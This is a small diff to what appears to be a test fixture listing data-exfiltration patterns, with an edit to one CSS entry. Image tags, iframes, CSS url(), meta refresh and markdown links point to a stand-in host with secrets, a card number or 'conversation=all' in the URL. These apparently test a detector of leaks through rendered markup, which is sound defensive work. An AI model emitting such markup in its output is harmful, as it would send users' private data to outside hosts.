@@ -35,7 +35,7 @@ FOUND = [
     ("<iframe src = '", f"https://cdn.example.net/?q={SAID}", "'>", "html-image"),
     ('{"html": "<img src=\\"', "https://cdn.example.net/?d=4111+1111+1111+1111", '\\">"}', "html-image"),
     ('<img src="', "https://cdn.example.net/?data=", "{{secret}}", "html-image"),
-    ("a { background: url('", f"https://cdn.example.net/{SAID}", "') }", "css-url"),
+    ("a {background: url('", f"https://cdn.example.net/{SAID}", "') }", "css-url"),
     ('<meta http-equiv="refresh" content="0; url=', f"https://cdn.example.net/?q={SAID}", '">', "html-refresh"),
     ("[docs]: ", f"https://docs.example.net/?q={SAID}", "\n", "reference-link"),
     ("read [this](", "https://docs.example.net/?payload=4aK9x2LmQ8&conversation=all", ")", "markdown-link"),
